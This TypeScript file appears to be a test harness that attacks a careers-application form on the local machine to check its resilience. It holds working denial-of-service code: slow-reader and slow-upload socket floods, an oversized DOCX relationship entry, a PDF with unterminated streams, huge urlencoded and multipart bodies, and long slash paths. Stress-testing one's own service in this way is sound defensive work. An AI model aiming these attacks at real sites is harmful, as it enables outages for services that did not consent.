import { request } from 'node:http';
import { connect, type Socket } from 'node:net';
import { setTimeout as sleep } from 'node:timers/promises';
import { SUBMISSION_ID_FIELD } from '@agency/contracts';
import { toDocx, toPdf } from '@agency/resumes/testing/documents';

/** The IP address of the attacking client; all other clients use another one. */
const ATTACKER = '127.0.0.3';

/** The targets of an attack. */
export interface AttackedSite {
  website: string;
  /** Paths of a film, and of pictures that the dashboard stores. */
  film: string;
  pictures: string[];
}

/** Runs until the signal; never throws. Requests stay on this machine and are limited in number. */
export type Attack = (target: AttackedSite, signal: AbortSignal) => Promise<void>;

/** The attacks of one client, by name. */
export const attacks: Record<string, Attack> = {
  'DOCX with a long relationship name': (target, signal) =>
    repeat(signal, 2, () => apply(target, 'resume.docx', longRelations)),
  'PDF with unterminated streams': (target, signal) =>
    repeat(signal, 2, () => apply(target, 'resume.pdf', endlessStreams)),
  'urlencoded application of 6.5 MB': (target, signal) =>
    repeat(signal, 2, () =>
      post(
        target,
        'application/x-www-form-urlencoded',
        Buffer.from(`m=${'%41'.repeat(2_160_000)}`),
      ),
    ),
  'application with 60,000 parts': (target, signal) =>
    repeat(signal, 2, () => post(target, `multipart/form-data; boundary=${BOUNDARY}`, manyParts)),
  'paths of 8 kB of slashes': (target, signal) =>
    repeat(signal, 4, () => fetchStatus(target.website, '/'.repeat(8000))),
  '500 slow clients of a film': (target, signal) =>
    openReaders(target, Array<string>(500).fill(target.film), signal),
  '200 slow clients of pictures': (target, signal) =>
    openReaders(
      target,
      Array.from(
        { length: 200 },
        (_, index) => target.pictures[index % target.pictures.length] ?? '/',
      ),
      signal,
    ),
  '20 slow resume uploads': slowSenders,
  '20 concurrent applications': (target, signal) =>
    repeat(signal, 20, () => apply(target, 'resume.docx', plainResume)),
};

const BOUNDARY = 'nour-1f3a';
const plainResume = toDocx();
const longRelations = toDocx([
  { name: 'word/_rels/document.xml.rels', content: `<${'a'.repeat(1_000_000)}` },
]);
const endlessStreams = toPdf({ extra: `8 0 obj\n<<>>\n${'stream\n'.repeat(100_000)}` });
const manyParts = Buffer.from(
  `${`--${BOUNDARY}\r\nContent-Disposition: form-data; name="a"\r\n\r\n\r\n`.repeat(60_000)}--${BOUNDARY}--\r\n`,
);

/** Repeats a task, a few at a time, until the signal. */
async function repeat(signal: AbortSignal, atOnce: number, act: () => Promise<unknown>) {
  const one = async () => {
    while (!signal.aborted) {
      await act();
      await sleep(50);
    }
  };
  await Promise.all(Array.from({ length: atOnce }, one));
}

function toApplication(name: string, file: Buffer): Buffer {
  const fields = {
    [SUBMISSION_ID_FIELD]: crypto.randomUUID(),
    firstName: 'Nour',
    lastName: 'El-Sayed',
    phone: '+20 100 000 0000',
    email: 'nour@example.com',
    position: 'Nobody',
    message: 'Sent to keep you busy.',
  };
  const head = Object.entries(fields)
    .map(
      ([field, value]) =>
        `--${BOUNDARY}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`,
    )
    .join('');
  const part = `--${BOUNDARY}\r\nContent-Disposition: form-data; name="resume"; filename="${name}"\r\nContent-Type: application/octet-stream\r\n\r\n`;
  return Buffer.concat([Buffer.from(head + part), file, Buffer.from(`\r\n--${BOUNDARY}--\r\n`)]);
}

const apply = (target: AttackedSite, name: string, file: Buffer) =>
  post(target, `multipart/form-data; boundary=${BOUNDARY}`, toApplication(name, file));

/** Posts to the application form as the attacker; the status, or 0 without a response. */
function post({ website }: AttackedSite, type: string, body: Buffer): Promise<number> {
  const { hostname, port } = new URL(website);
  return new Promise((resolve) => {
    const outgoing = request(
      {
        hostname,
        port,
        path: '/forms/careers',
        method: 'POST',
        localAddress: ATTACKER,
        timeout: 30_000,
        headers: {
          'Content-Type': type,
          'Content-Length': body.length,
          Accept: 'application/json',
          Origin: website,
        },
      },
      (response) => {
        response.resume();
        response.once('close', () => resolve(response.statusCode ?? 0));
      },
    );
    outgoing.on('timeout', () => outgoing.destroy());
    outgoing.on('error', () => resolve(0));
    outgoing.end(body);
  });
}

function fetchStatus(website: string, path: string): Promise<number> {
  const { hostname, port } = new URL(website);
  return new Promise((resolve) => {
    const outgoing = request({ hostname, port, path, localAddress: ATTACKER }, (response) => {
      response.resume();
      response.once('close', () => resolve(response.statusCode ?? 0));
    });
    outgoing.on('error', () => resolve(0));
    outgoing.end();
  });
}

/** Opens connections that request a file and read a few bytes of it a second. */
async function openReaders({ website }: AttackedSite, paths: string[], signal: AbortSignal) {
  const { hostname, port, host } = new URL(website);
  const sockets = new Set<Socket>();
  for (const path of paths) {
    if (signal.aborted) break;
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER });
    sockets.add(socket);
    socket.on('error', () => undefined);
    socket.on('close', () => sockets.delete(socket));
    socket.write(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
    socket.once('data', () => socket.pause());
  }
  while (!signal.aborted) {
    for (const socket of sockets) socket.read(256);
    await sleep(1000, undefined, { signal }).catch(() => undefined);
  }
  for (const socket of sockets) socket.destroy();
}

/** Twenty uploads that never end: 20 kB a second each, announced as five megabytes. */
async function slowSenders({ website }: AttackedSite, signal: AbortSignal) {
  const { hostname, port, host } = new URL(website);
  const part = Buffer.alloc(10_000, 'a');
  const open = (): Socket => {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ATTACKER });
    socket.on('error', () => undefined);
    socket.resume();
    socket.write(
      `POST /forms/careers HTTP/1.1\r\nHost: ${host}\r\nOrigin: ${website}\r\nContent-Type: multipart/form-data; boundary=${BOUNDARY}\r\nContent-Length: 5000000\r\n\r\n`,
    );
    return socket;
  };
  let sockets = Array.from({ length: 20 }, open);
  while (!signal.aborted) {
    sockets = sockets.map((socket) => (socket.destroyed ? open() : socket));
    for (const socket of sockets) socket.write(part);
    await sleep(500, undefined, { signal }).catch(() => undefined);
  }
  for (const socket of sockets) socket.destroy();
}
